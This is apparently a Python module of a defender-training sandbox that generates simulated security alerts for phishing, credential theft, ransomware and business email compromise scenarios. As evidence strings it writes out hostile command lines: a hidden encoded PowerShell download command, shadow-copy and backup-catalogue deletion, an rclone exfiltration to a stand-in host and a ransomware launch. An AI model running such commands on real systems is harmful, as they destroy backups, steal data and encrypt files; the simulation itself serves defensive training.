"""Stories that begin with a message."""

from __future__ import annotations

from defender_tui.sandbox.data import sensors
from defender_tui.sandbox.data.plots_endpoint import (
    beacon,
    dump_credentials,
    move_laterally,
    persist,
)
from defender_tui.sandbox.data.records import CloudApplicationSubject
from defender_tui.sandbox.data.scene import MALICIOUS, PREVENTED, SUSPICIOUS, Plot, Scene

_EXCHANGE = CloudApplicationSubject(20893, "Microsoft Exchange Online")
_LURES = (
    ("Overdue invoice 88213", "billing"),
    ("Your mailbox is almost full", "it-support"),
    ("Shared with you: Q4 bonus plan", "no-reply"),
    ("Voice message from +1 202 555 0143", "voicemail"),
    ("Action required: payroll confirmation", "payroll"),
)


def hands_on_keyboard(scene: Scene) -> Plot:
    """Phishing, a foothold, theft of credentials and a way to the servers."""
    device = scene.windows_workstation()
    user, sender, domain = device.owner, scene.attacker(), scene.domain()
    scene.raise_alert(
        sensors.MAIL,
        "Email messages containing malicious file removed after delivery",
        "A message with a harmful attachment reached the inbox before it was recognised.",
        severity="informational",
        tactic="InitialAccess",
        techniques=("T1566.001",),
        evidence=[
            scene.mailbox(user),
            scene.message(
                "Overdue invoice 88213",
                user,
                sender=("Billing", f"billing@{domain}"),
                sender_ip=sender.ip,
                delivered=True,
                attachments=(scene.cast.file("Invoice_88213.pdf.lnk"),),
            ),
            scene.file("Invoice_88213.pdf.lnk", None),
            scene.address(sender),
        ],
    )
    scene.wait(4, 45)
    scene.raise_alert(
        sensors.ENDPOINT,
        "Suspicious PowerShell command line",
        "PowerShell ran with an encoded command that downloads and starts code.",
        severity="medium",
        tactic="Execution",
        techniques=("T1059.001", "T1027"),
        evidence=[
            scene.machine(device),
            scene.account(user),
            scene.process(
                "powershell.exe",
                "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
                parent="explorer.exe",
                device=device,
                user=user,
            ),
            scene.file("Invoice_88213.pdf.lnk", device),
            scene.url(f"https://{domain}/a/inv.ps1"),
        ],
    )
    for act in (beacon, persist, dump_credentials):
        scene.wait(6, 50)
        act(scene, device, user)
    for name in scene.random.sample(("srv-file-01", "srv-sql-01", "srv-dc-01"), 2):
        scene.wait(6, 50)
        move_laterally(scene, device, scene.server(name), user)
    return Plot(
        "Multi-stage incident involving Initial access & Lateral movement on multiple endpoints",
        f"After a phishing message an operator worked by hand from {device.dns_name} with the "
        f"account {user.upn}.",
        tags=("Priority", "IR-retainer"),
    )


def ransomware(scene: Scene) -> Plot:
    """Encryption that starts from a stolen administrator on several servers."""
    admin, source = scene.cast.users[10], scene.windows_workstation()
    names = ("srv-bkp-01", "srv-file-01", "srv-sql-01", "srv-web-01")
    servers = [scene.server(name) for name in names[: scene.random.randint(2, 4)]]
    beacon(scene, source, source.owner)
    scene.wait(10, 60)
    dump_credentials(scene, source, source.owner)
    for server in servers:
        scene.wait(3, 15)
        move_laterally(scene, source, server, admin)
        _stop_recovery(scene, server.name)
        _encrypt(scene, server.name)
    scene.wait(2, 10)
    scene.raise_alert(
        sensors.XDR,
        "Ransomware-linked activity on multiple devices",
        "Devices of this incident show the behaviour of operators who encrypt data for ransom.",
        severity="high",
        tactic="Impact",
        techniques=("T1486", "T1490"),
        family="Lockbit",
        evidence=[scene.account(admin), *(scene.machine(server) for server in servers)],
    )
    scene.wait(1, 10)
    scene.raise_alert(
        sensors.ENDPOINT,
        "Possible data exfiltration before encryption",
        "A tool for copying to cloud storage sent large amounts of data out.",
        severity="high",
        tactic="Exfiltration",
        techniques=("T1567.002",),
        family="Rclone",
        evidence=[
            scene.machine(servers[1]),
            scene.process(
                "rclone.exe",
                "rclone.exe copy D:\\Shares remote:drop --transfers 16 --no-check-certificate",
                parent="cmd.exe",
                device=servers[1],
                user=admin,
            ),
            scene.address(scene.attacker()),
            scene.url("https://mega-sync.test/api/v1/put"),
        ],
    )
    return Plot(
        "Ransomware activity on multiple endpoints",
        f"Backups were destroyed and files were encrypted on {len(servers)} servers.",
        tags=("Priority", "Ransomware"),
    )


def _stop_recovery(scene: Scene, server_name: str) -> None:
    server, admin = scene.server(server_name), scene.cast.users[10]
    scene.raise_alert(
        sensors.ENDPOINT,
        "File backups were deleted",
        "Shadow copies and backup catalogues were removed so that files cannot be restored.",
        severity="high",
        tactic="Impact",
        techniques=("T1490",),
        evidence=[
            scene.machine(server),
            scene.account(admin),
            scene.process(
                "vssadmin.exe",
                "vssadmin.exe delete shadows /all /quiet",
                parent="cmd.exe",
                device=server,
                user=admin,
            ),
            scene.process(
                "wbadmin.exe",
                "wbadmin.exe delete catalog -quiet",
                parent="cmd.exe",
                device=server,
                user=admin,
            ),
        ],
    )


def _encrypt(scene: Scene, server_name: str) -> None:
    server, admin = scene.server(server_name), scene.cast.users[10]
    scene.raise_alert(
        sensors.ANTIVIRUS,
        "Ransomware behavior detected in the file system",
        "Many files were rewritten and renamed in a short time.",
        severity="high",
        tactic="Impact",
        techniques=("T1486",),
        family="Lockbit",
        evidence=[
            scene.machine(server),
            scene.file("locker.exe", server),
            scene.file("readme_restore.hta", server),
            scene.process(
                "locker.exe",
                "C:\\Windows\\Temp\\locker.exe -pass 9f1c -path D:\\",
                parent="psexesvc.exe",
                device=server,
                user=admin,
            ),
        ],
    )


def phishing_reported(scene: Scene) -> Plot:
    """A campaign that users reported and filtering stopped, mostly."""
    subject, mailbox_name = scene.random.choice(_LURES)
    domain, sender = scene.domain(), scene.attacker()
    link = f"https://{domain}/{scene.random.randrange(16**8):08x}/signin"
    victims = scene.random.sample(scene.cast.users, scene.random.randint(1, 4))
    for number, victim in enumerate(victims):
        delivered = number == 0
        scene.raise_alert(
            sensors.MAIL,
            "A potentially malicious URL click was detected"
            if delivered
            else "Email messages containing phish URLs removed after delivery",
            "A message led to a page that collects passwords.",
            severity="medium" if delivered else "informational",
            tactic="InitialAccess",
            techniques=("T1566.002",),
            evidence=[
                scene.mailbox(victim),
                scene.account(victim),
                scene.message(
                    subject,
                    victim,
                    sender=(mailbox_name, f"{mailbox_name}@{domain}"),
                    sender_ip=sender.ip,
                    delivered=delivered,
                    urls=(link,),
                ),
                scene.url(link, MALICIOUS if delivered else PREVENTED),
                scene.address(sender),
            ],
        )
        scene.wait(1, 30)
    return Plot(
        "Phishing campaign involving multiple users" if len(victims) > 1 else "Phishing message",
        f"“{subject}” was sent to {len(victims)} mailboxes.",
        determination="phishing",
    )


def inbox_rule(scene: Scene) -> Plot:
    """A rule that hides mail, as in payment fraud."""
    user, attacker = scene.cast.users[scene.random.randrange(5)], scene.attacker()
    scene.raise_alert(
        sensors.CLOUD_APPS,
        "Suspicious inbox manipulation rule",
        f"A rule was made in the mailbox of {user.upn} that moves messages with the word "
        "“invoice” to the RSS feeds folder.",
        severity="medium",
        tactic="DefenseEvasion",
        techniques=("T1564.008", "T1114.003"),
        evidence=[
            scene.account(user),
            scene.mailbox(user),
            scene.address(attacker, SUSPICIOUS),
            scene.seen(_EXCHANGE, SUSPICIOUS),
        ],
    )
    scene.wait(10, 120)
    scene.raise_alert(
        sensors.XDR,
        "BEC financial fraud",
        "An account with a suspicious session read and answered mails about payments.",
        severity="medium",
        tactic="Collection",
        techniques=("T1114.002",),
        evidence=[scene.account(user), scene.mailbox(user), scene.address(attacker)],
    )
    return Plot(
        "Business email compromise involving one user",
        f"The mailbox of {user.display_name} was used to prepare payment fraud.",
        determination="compromisedAccount",
    )
